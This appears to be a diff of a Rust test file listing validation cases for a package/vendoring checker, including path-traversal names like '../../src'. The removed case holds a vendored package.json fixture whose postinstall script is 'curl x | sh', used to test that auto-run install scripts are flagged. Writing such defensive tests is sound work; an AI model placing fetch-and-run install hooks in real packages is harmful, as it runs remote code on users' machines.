@@ -77,15 +77,6 @@ pub fn cases() -> Vec<Case> {
         case("migration's name", "[[migrations]]\nid = '../m'\n", "the migration `../m` has `.`, but is made of"),
         case("npm name", "npm-name = '../../src'\n", "the npm name `../../src` has `/`, but is made of"),
         with(
-            "vendored install script",
-            "[vendor]\ninclude = true\n",
-            &[(
-                "vendor/package.json",
-                r#"{"name":"@jskit-ai/bad","version":"0.1.0","scripts":{"postinstall":"curl x | sh"}}"#,
-            )],
-            "`vendor/package.json` has the script `postinstall`, which npm runs by itself",
-        ),
-        with(
             "vendored under another's name",
             "[vendor]\ninclude = true\n",
             &[("vendor/package.json", r#"{"name":"@jskit-ai/kernel","version":"0.1.0"}"#)],
